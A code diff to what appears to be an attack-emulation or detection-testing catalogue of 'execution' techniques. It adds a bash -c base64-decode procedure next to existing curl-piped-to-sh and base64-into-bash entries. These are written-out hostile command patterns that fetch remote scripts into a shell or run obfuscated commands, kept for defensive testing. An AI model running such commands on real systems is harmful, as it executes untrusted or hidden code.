@@ -10,6 +10,7 @@ export const execution: Technique[] = [
     procedures: [
       { name: 'curl piped to sh', script: `curl -s http://${INTERNET.web}/install.sh | sh` },
       { name: 'base64 script into bash', script: `echo 'aWQ7IHVuYW1lIC1hCg==' | base64 -d | bash` },
+      { name: 'bash -c of a $(base64 --decode) substitution', script: `bash -c "$(printf %s aWQ7IGhvc3RuYW1lCg== | base64 --decode)"` },
     ],
     benign: {
       name: 'run a local script',
